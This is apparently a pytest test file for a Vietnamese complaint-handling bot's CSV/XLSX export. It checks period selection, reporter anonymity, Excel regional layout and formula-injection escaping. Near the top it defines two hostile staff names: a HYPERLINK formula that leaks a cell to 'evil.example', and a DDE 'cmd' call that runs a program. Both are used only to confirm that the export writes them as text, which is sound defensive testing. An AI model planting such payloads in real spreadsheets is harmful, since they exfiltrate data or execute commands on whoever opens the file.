"""What a leader gets from ``/export`` and ``phananh digest --out``: the
complaints of the period asked (an ISO week, last week, this week, month or
year), with what each says, in a CSV that opens as columns in a Vietnamese
Excel and an XLSX — and a staff name or a description that looks like a
formula is shown as the text it is, never evaluated."""

from __future__ import annotations

import dataclasses
import os
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.cli import main
from bot.domain.clock import ManualClock
from bot.domain.orgchart import OrgChart
from bot.i18n import t
from bot.report.export import COLUMNS, FORMULA_STARTS, Cell, headers, to_csv, to_xlsx
from bot.sandbox.driver import BotDriver
from bot.sandbox.telegram import SentMessage, UploadedFile
from tests.catalogue import says
from tests.factories import (
    CITY_LEADER,
    WARD_CHAIR,
    file_sanitation_report,
    load_chart,
    started_bot,
)
from tests.spreadsheet import (
    ENGLISH_US,
    csv_formulas,
    open_like_excel,
    xlsx_cells,
    xlsx_formulas,
)

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
# The two names of the hardening report, exactly: a formula that sends the
# cell next to it to a web site when clicked, and a DDE call that runs a program.
HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")'
DDE_NAME = "+cmd|' /C calc'!A0"
SANITATION_CADRE = 7013  # cb-hh-mt: rubbish in Tổ dân phố 3
GROUP1_LEADER = 7021  # tt-hh-01: rubbish in Tổ dân phố 1


def at(month: int, day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=TZ).astimezone(UTC)


def uploaded(message: SentMessage) -> bytes:
    upload = message.params["document"]
    assert isinstance(upload, UploadedFile)
    return upload.content


def one_row(**cells: Cell) -> list[list[Cell]]:
    """A table of one complaint: the cells named, the rest empty."""
    return [[cells.get(name, "PA-000001" if name == "code" else None) for name in COLUMNS]]


def by_code(table: list[list[str]]) -> dict[str, dict[str, str]]:
    return {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}


def xlsx_by_code(data: bytes) -> dict[str, dict[str, object]]:
    cells = xlsx_cells(data)
    return {str(row[0]): dict(zip(cells[0], row, strict=True)) for row in cells[1:]}


async def export(bot: BotDriver, *args: str) -> list[SentMessage]:
    return await bot.send(bot.user(WARD_CHAIR, "Hùng").command("export", *args))


# ---- which period ---------------------------------------------------------------------------


@pytest.fixture
async def two_weeks(tmp_path: Path, chart: OrgChart) -> tuple[Path, ManualClock]:
    """One report in week 47 (Tuesday 17/11), one in week 48 (Monday 23/11);
    the leader asks on Tuesday 24/11."""
    db_path = tmp_path / "export.db"
    await load_chart(db_path, chart)
    clock = ManualClock(at(11, 17, 9))
    async with started_bot(db_path, clock) as bot:
        await file_sanitation_report(bot, bot.user(501, "An"), description="Rác tuần 47")
        clock.set(at(11, 23, 9))
        await file_sanitation_report(bot, bot.user(502, "Bình"), description="Rác tuần 48")
    clock.set(at(11, 24, 10))
    return db_path, clock


@pytest.mark.parametrize(
    "words",
    [["2026-W47"], ["2026w47"], ["tuần", "trước"], ["tuan", "truoc"], ["last", "week"]],
)
async def test_export_of_an_iso_week_or_last_week_lists_that_weeks_complaints(
    two_weeks: tuple[Path, ManualClock], words: list[str]
) -> None:
    db_path, clock = two_weeks
    async with started_bot(db_path, clock) as bot:
        sent = await export(bot, *words)
    assert [m.kind for m in sent] == ["document", "document"]
    assert sent[0].text == t("vi", "digest.export_caption", period="tuần 47/2026", count=1)
    assert sent[0].params["document"].filename == "phan-anh-honghai-2026-w47.csv"
    rows = by_code(open_like_excel(uploaded(sent[0])))
    assert list(rows) == ["PA-000001"], "week 48's report is not in week 47"
    assert rows["PA-000001"][t("vi", "export.description")] == "Rác tuần 47"
    assert list(xlsx_by_code(uploaded(sent[1]))) == ["PA-000001"]


async def test_export_of_this_week_and_of_another_week_differ(
    two_weeks: tuple[Path, ManualClock],
) -> None:
    db_path, clock = two_weeks
    async with started_bot(db_path, clock) as bot:
        this_week = await export(bot, "tuần", "này")
        week_48 = await export(bot, "HONGHAI", "2026-W48")
        week_46 = await export(bot, "2026-W46")
    assert this_week[0].text == t("vi", "digest.export_caption", period="tuần 48/2026", count=2)
    assert week_48[0].text == this_week[0].text
    assert week_46[0].text == t("vi", "digest.export_caption", period="tuần 46/2026", count=0)


@pytest.mark.parametrize(
    ("words", "key"),
    [
        (["2026-W60"], "digest.bad_week"),
        (["2026-W47", "month"], "digest.export_usage"),
        (["next", "week"], "digest.export_usage"),
        ([], "digest.export_usage"),
    ],
)
async def test_a_period_the_export_does_not_know_is_answered_in_one_line(
    two_weeks: tuple[Path, ManualClock], words: list[str], key: str
) -> None:
    db_path, clock = two_weeks
    async with started_bot(db_path, clock) as bot:
        sent = await export(bot, *words)
    assert [m.text for m in sent] == [t("vi", key)]


async def test_stats_and_digest_understand_last_week_too(
    two_weeks: tuple[Path, ManualClock],
) -> None:
    db_path, clock = two_weeks
    async with started_bot(db_path, clock) as bot:
        chair = bot.user(WARD_CHAIR, "Hùng")
        stats = await bot.send(chair.command("stats", "tuần", "trước"))
        digest = await bot.send(chair.command("digest", "last", "week"))
    assert says(stats[0].text, "digest.stats_title", period="tuần 47/2026")
    assert says(digest[0].text, "digest.title", number=47, year=2026)


@pytest.mark.parametrize(
    "words",
    [
        ["2026-W47", "HONGHAI", "BACHDANG"],
        ["BACHDANG", "honghai", "tuần"],
        ["2026-W46", "2026-W47"],
    ],
)
@pytest.mark.parametrize(
    ("command", "usage"),
    [
        ("stats", "digest.stats_usage"),
        ("export", "digest.export_usage"),
        ("digest", "digest.digest_usage"),
    ],
)
async def test_a_city_leader_naming_two_wards_or_two_weeks_is_told_one_at_a_time(
    two_weeks: tuple[Path, ManualClock], words: list[str], command: str, usage: str
) -> None:
    """The figures of the last ward (or week) named came back alone, the
    first dropped without a word: now the usage line, which names one."""
    db_path, clock = two_weeks
    async with started_bot(db_path, clock) as bot:
        sent = await bot.send(bot.user(CITY_LEADER, "Tâm").command(command, *words))
    assert [m.text for m in sent] == [t("vi", usage)]


# ---- what each row says ---------------------------------------------------------------------


async def test_export_carries_description_landmark_resolution_note_and_only_names_allowed(
    tmp_path: Path, chart: OrgChart
) -> None:
    db_path = tmp_path / "rows.db"
    await load_chart(db_path, chart)
    clock = ManualClock(at(11, 23, 9))
    async with started_bot(db_path, clock) as bot:
        named = bot.user(501, "Nguyễn Thị", last_name="An")
        centre = chart.areas["HH-TDP11"].centre
        assert centre is not None
        await bot.send(named.command("new"))
        await bot.choose(named, "sanitation")
        await bot.choose(named, "RKTG")
        await bot.send(named.venue(centre.lat, centre.lon, "Chợ Hạ Long 1", "Lê Thánh Tông"))
        await bot.send(named.text("Rác sau chợ, bốc mùi"))
        await bot.choose(named, "d")
        await bot.choose(named, "nm")  # "let the cadre see my name"
        await bot.choose(named, "ok")
        await file_sanitation_report(bot, bot.user(502, "Trần Văn Bình"), description="Ẩn danh")
        cadre = bot.user(SANITATION_CADRE, "Thắng")
        await bot.press(cadre, "r:1")
        await bot.send(cadre.text("Đã thu gom, rửa sạch nền chợ"))
        await bot.choose(cadre, "s")
        clock.set(at(11, 23, 10))
        sent = await export(bot, "week")
        await bot.send(bot.user(WARD_CHAIR, "Hùng").command("lang", "en"))
        english = await export(bot, "week")

    rows = by_code(open_like_excel(uploaded(sent[0])))
    first, second = rows["PA-000001"], rows["PA-000002"]
    assert first[t("vi", "export.description")] == "Rác sau chợ, bốc mùi"
    assert first[t("vi", "export.landmark")] == "Chợ Hạ Long 1, Lê Thánh Tông"
    assert first[t("vi", "export.resolution_note")] == "Đã thu gom, rửa sạch nền chợ"
    assert first[t("vi", "export.reporter")] == "Nguyễn Thị An"
    assert second[t("vi", "export.description")] == "Ẩn danh"
    assert second[t("vi", "export.reporter")] == "", "anonymous: no name"
    assert "Trần Văn Bình" not in uploaded(sent[0]).decode("utf-8-sig")
    assert "Trần Văn Bình".encode() not in uploaded(sent[1])
    workbook = xlsx_by_code(uploaded(sent[1]))
    assert (
        workbook["PA-000001"][t("vi", "export.resolution_note")] == "Đã thu gom, rửa sạch nền chợ"
    )
    assert workbook["PA-000002"][t("vi", "export.reporter")] is None
    assert open_like_excel(uploaded(english[0]))[0] == headers("en")


# ---- the CSV in a Vietnamese Excel -------------------------------------------------------


def test_the_csv_opens_as_columns_in_excel_with_vietnamese_regional_settings() -> None:
    """Vietnamese regional settings: ',' is the decimal mark, so ';' is the
    list separator Excel splits a double-clicked CSV at; the byte-order mark
    makes it read UTF-8.  A cell holding ';', ',', quotes or a line break
    stays one cell."""
    tricky = 'Rác; lấn chiếm, "vỉa hè"\nngõ 12'
    data = to_csv(one_row(created=datetime(2026, 11, 17, 9, 5), description=tricky, rating=4), "vi")
    assert data.startswith(b"\xef\xbb\xbf")
    assert not data[3:].startswith(b"sep="), "no sep= line: other programs would show it"
    shown = open_like_excel(data)
    assert shown[0] == headers("vi")
    cells = dict(zip(COLUMNS, shown[1], strict=True))
    assert cells["code"] == "PA-000001"
    assert cells["created"] == "17/11/2026 09:05"
    assert cells["description"] == tricky
    assert cells["rating"] == "4"
    assert len(shown) == 2, "the line break inside a cell starts no row"
    # The other way round shows why the choice is regional: an Excel set to
    # ',' as list separator does not find the columns (the XLSX is for that).
    assert open_like_excel(data, ENGLISH_US)[0] != headers("vi")


# ---- formulas stay text ---------------------------------------------------------------------


@pytest.mark.parametrize("start", [*FORMULA_STARTS, " =", "  +"])
def test_every_cell_a_spreadsheet_would_evaluate_is_written_as_text(start: str) -> None:
    value = f"{start}1+1"
    table = one_row(description=value, owner=value, rating=3)
    where = COLUMNS.index("description")
    shown = open_like_excel(to_csv(table, "vi"))
    assert csv_formulas(shown) == []
    assert shown[1][where] == f"'{value}", "OWASP: a leading apostrophe"
    workbook = to_xlsx(table, "vi")
    assert xlsx_formulas(workbook) == []
    # The exact text (XML itself reads a carriage return as a line feed).
    assert xlsx_cells(workbook)[1][where] == value.replace("\r", "\n")


def test_control_characters_in_a_description_do_not_break_the_workbook() -> None:
    value = "Rác\x07 \x1b[31mđỏ\x00"
    table = one_row(description=value)
    where = COLUMNS.index("description")
    assert xlsx_cells(to_xlsx(table, "vi"))[1][where] == "Rác\ufffd \ufffd[31mđỏ\ufffd"
    assert open_like_excel(to_csv(table, "vi"))[1][where] == value


def test_ordinary_text_is_left_as_it_is() -> None:
    shown = open_like_excel(to_csv(one_row(description="Rác - ngõ 3 @ chợ"), "vi"))
    assert shown[1][COLUMNS.index("description")] == "Rác - ngõ 3 @ chợ"


def _chart_with_formula_names(chart: OrgChart) -> OrgChart:
    staff = dict(chart.staff)
    staff["cb-hh-mt"] = dataclasses.replace(staff["cb-hh-mt"], name=HYPERLINK_NAME)
    staff["tt-hh-01"] = dataclasses.replace(staff["tt-hh-01"], name=DDE_NAME)
    return dataclasses.replace(chart, staff=staff)


@pytest.fixture
async def formula_names(tmp_path: Path, chart: OrgChart) -> tuple[Path, ManualClock]:
    """Two reports in week 47: one owned by the cadre named like a
    HYPERLINK formula, one by the group leader named like a DDE call."""
    db_path = tmp_path / "formulas.db"
    await load_chart(db_path, _chart_with_formula_names(chart))
    clock = ManualClock(at(11, 17, 9))
    async with started_bot(db_path, clock) as bot:
        await file_sanitation_report(bot, bot.user(501, "An"), group="HH-TDP03")
        await file_sanitation_report(bot, bot.user(502, "Bình"), group="HH-TDP01")
    clock.set(at(11, 24, 10))
    return db_path, clock


def assert_names_are_text(csv_bytes: bytes, xlsx_bytes: bytes, owner: str) -> None:
    shown = open_like_excel(csv_bytes)
    assert csv_formulas(shown) == []
    rows = by_code(shown)
    assert rows["PA-000001"][owner] == f"'{HYPERLINK_NAME}"
    assert rows["PA-000002"][owner] == f"'{DDE_NAME}"
    assert xlsx_formulas(xlsx_bytes) == []
    workbook = xlsx_by_code(xlsx_bytes)
    assert workbook["PA-000001"][owner] == HYPERLINK_NAME
    assert workbook["PA-000002"][owner] == DDE_NAME


async def test_formula_staff_names_are_text_in_the_chat_export(
    formula_names: tuple[Path, ManualClock],
) -> None:
    db_path, clock = formula_names
    async with started_bot(db_path, clock) as bot:
        sent = await export(bot, "2026-W47")
    assert [m.kind for m in sent] == ["document", "document"]
    assert_names_are_text(uploaded(sent[0]), uploaded(sent[1]), t("vi", "export.owner"))


def test_formula_staff_names_are_text_in_the_printed_briefing(
    formula_names: tuple[Path, ManualClock],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    db_path, _ = formula_names
    for name in [n for n in os.environ if n.startswith("PHANANH_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("PHANANH_DB", str(db_path))
    out = tmp_path / "giao-ban"
    code = main(["digest", "--ward", "HONGHAI", "--week", "2026-W47", "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    assert_names_are_text(
        (out / "complaints.csv").read_bytes(),
        (out / "complaints.xlsx").read_bytes(),
        t("vi", "export.owner"),
    )
